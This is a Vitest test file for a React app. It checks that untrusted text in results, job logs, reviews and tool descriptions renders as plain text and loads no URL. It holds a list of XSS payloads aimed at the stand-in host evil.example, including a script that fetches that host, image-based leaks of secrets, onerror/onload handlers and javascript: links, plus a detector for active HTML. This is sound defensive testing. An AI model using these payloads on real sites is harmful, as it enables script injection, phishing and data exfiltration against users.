import { parseHTML } from 'linkedom';
import { createElement, type ReactElement } from 'react';
import { renderToStaticMarkup } from 'react-dom/server';
import { describe, expect, it } from 'vitest';
import { READY } from '@/server/catalog/tools/availability';
import { JobLog } from '../../components/jobs/job-log';
import { ResultView } from '../../components/results/result-view';
import { ReviewItem } from '../../components/shared/review-item';
import { SkillSection } from '../../components/site/skill-section';
import { describeTool } from '../../server/catalog/tools/describe-tool';
import { DETAIL } from '../../server/catalog/tools/selection';
import type { ToolFact } from '../../server/catalog/tools/tool-facts';
import { Versions } from '../../server/core/versions/versions';
import { tools } from '../../server/tools/registry';

/** Output that would make a browser load a URL or run a script if it were not escaped. */
const HOSTILE = [
  '![x](https://evil.example/a.png?secret=1)',
  '[Claim your credit](https://evil.example/login)',
  '<img src=https://evil.example/b.png onerror=alert(1)>',
  '<a href="javascript:alert(1)">here</a>',
  '<script>fetch("https://evil.example/c")</script>',
  '<iframe src="https://evil.example/d"></iframe><link rel=stylesheet href=//evil.example/e.css>',
  'https://evil.example/f javascript:alert(1) data:text/html,<script>alert(1)</script>',
  '</script></pre></textarea><svg onload=alert(1)>',
  ' data:image/png;base64,x" src="https://evil.example/g.png',
  'data:image/svg+xml,"><script>alert(1)</script>',
];
const TEXT = HOSTILE.join('\n');

/** Elements and attributes that load a URL or run a script; untrusted text may create none. */
function findActiveContent(element: ReactElement): string[] {
  const { document } = parseHTML(`<main>${renderToStaticMarkup(element)}</main>`);
  return [...document.querySelectorAll('main *')].flatMap((each) => {
    const found = ['SCRIPT', 'IFRAME', 'OBJECT', 'EMBED', 'LINK', 'STYLE', 'FORM', 'META', 'BASE'].includes(
      each.tagName,
    )
      ? [each.tagName]
      : [];
    for (const { name, value } of [...each.attributes]) {
      if (/^on/i.test(name)) found.push(`${each.tagName} ${name}`);
      const isAddress = [
        'href',
        'src',
        'srcset',
        'action',
        'formaction',
        'poster',
        'data',
        'xlink:href',
      ].includes(name);
      // A data URL causes no request, and scripts in an image do not run.
      if (
        isAddress &&
        !/^[/#](?!\/)/.test(value) &&
        !(each.tagName === 'IMG' && value.startsWith('data:image/'))
      )
        found.push(`${each.tagName} ${name}=${value}`);
    }
    return found;
  });
}

describe('untrusted output is shown as text, loads no URL and runs no script @C15', () => {
  const now = new Date().toISOString();
  const cases: [string, ReactElement][] = [
    [
      'a result',
      createElement(ResultView, { output: { text: TEXT, list: HOSTILE, [TEXT]: { url: HOSTILE[0] } } }),
    ],
    [
      'a picture in a result',
      createElement(ResultView, {
        output: { media_type: 'image/svg+xml', content: `<svg onload="alert(1)">${TEXT}</svg>` },
      }),
    ],
    [
      'a log',
      createElement(JobLog, {
        live: false,
        lines: HOSTILE.map((message, at) => ({ seq: at + 1, at: now, message })),
      }),
    ],
    [
      'a review',
      createElement(ReviewItem, {
        review: { rating: 1, review: TEXT, verified: false, updated_at: now } as Parameters<
          typeof ReviewItem
        >[0]['review'],
      }),
    ],
  ];
  it.each(cases)('%s', (_, element) => {
    expect(findActiveContent(element)).toEqual([]);
    const { document } = parseHTML(`<main>${renderToStaticMarkup(element)}</main>`);
    expect(document.querySelector('main')?.textContent).toContain('onload=');
  });

  it('texts of an imported tool @C15', () => {
    const tool = tools[0];
    const skill = tool?.skills[0];
    if (!tool || !skill) throw new Error('There are no tools');
    const versions = new Versions('http://gateway.test', { routes: {}, tools: {} });
    const facts: ToolFact = {
      rating: { average: null, count: 0 },
      stats: { success_rate: null, p50_ms: null, calls_30d: 0 },
    };
    const hostile = { ...skill, displayName: TEXT, description: TEXT, returns: TEXT };
    const described = describeTool(
      { ...tool, displayName: TEXT, description: TEXT, skills: [hostile] },
      {
        parts: new Set(DETAIL),
        facts,
        byokRate: 0.05,
        versions,
        availability: { tool: READY, skills: new Map() },
      },
    );
    const [shown] = described.skills;
    if (!shown) throw new Error('The tool has no skill');
    const props = {
      tool: 'x',
      skill: shown,
      baseUrl: 'http://gateway.test',
      toolDeprecated: false,
      ownKeys: null,
    };
    const element = createElement(SkillSection, props);
    expect(findActiveContent(element)).toEqual([]);
    expect(renderToStaticMarkup(element)).toContain('evil.example');
  });

  it('is detected when it would load a URL or run a script', () => {
    const image = createElement('img', { src: 'https://evil.example/a.png', alt: '' });
    const link = createElement('a', { href: 'https://evil.example/' }, 'x');
    const script = createElement('script', {}, 'alert(1)');
    const found = findActiveContent(createElement('div', {}, image, link, script));
    for (const each of ['IMG src=https://evil.example/a.png', 'A href=https://evil.example/', 'SCRIPT'])
      expect(found).toContain(each);
  });
});
